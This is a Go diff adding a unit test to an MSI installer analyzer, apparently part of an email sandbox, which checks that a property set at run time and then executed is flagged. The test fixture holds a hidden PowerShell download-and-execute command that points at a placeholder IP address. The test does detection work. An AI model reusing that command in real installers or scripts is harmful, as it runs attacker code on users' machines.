@@ -11,6 +11,7 @@ import (
 	"github.com/richardlehane/mscfb"
 
 	"github.com/airlockmail/airlock/sandboxd/analyzer"
+	"github.com/airlockmail/airlock/sandboxd/analyzer/internal/rules"
 	"github.com/airlockmail/airlock/sandboxd/analyzer/internal/testkit"
 )
 
@@ -125,4 +126,36 @@ func FuzzMSI(f *testing.F) {
 		f.Add(b)
 	}
 	f.Fuzz(func(t *testing.T, data []byte) { testkit.Check(t, New(), data) })
+}
+
+// A property set by one action (type 51) and run by another (type 50) is
+// followed; a property that names a folder is not a command.
+func TestPropertySetAtRunTime(t *testing.T) {
+	d := &db{property: map[string]string{}, streams: map[string][]byte{}, actions: &table{
+		cols: []column{{"Action", typeString | typeValid | 72}, {"Type", typeValid | 2}, {"Source", typeString | typeValid | 72}, {"Target", typeString | typeValid | 255}},
+		rows: [][]string{
+			{"SetCmd", "51", "UPDCMD", "powershell -w hidden -c iex (iwr http://203.0.113.9/s.ps1)"},
+			{"RunCmd", "50", "UPDCMD", ""},
+			{"SetDir", "51", "ARPINSTALLLOCATION", "[INSTALLDIR]"},
+		}}}
+	fs := &rules.Findings{Analyzer: "msi"}
+	d.runtimeProperties()
+	for r := range d.actions.rows {
+		judgeAction(context.Background(), d, r, fs)
+	}
+	got := map[string]string{}
+	for _, f := range fs.List() {
+		got[f.Rule] = f.Evidence
+	}
+	if !strings.HasPrefix(got["property-command"], "SetCmd (type 51)") {
+		t.Errorf("property-command evidence %q", got["property-command"])
+	}
+	if !strings.HasPrefix(got["lolbin-action"], "RunCmd (type 50): powershell") {
+		t.Errorf("lolbin-action evidence %q (findings %v)", got["lolbin-action"], got)
+	}
+	for _, f := range fs.List() {
+		if strings.Contains(f.Evidence, "SetDir") {
+			t.Errorf("the folder property was flagged: %+v", f)
+		}
+	}
 }
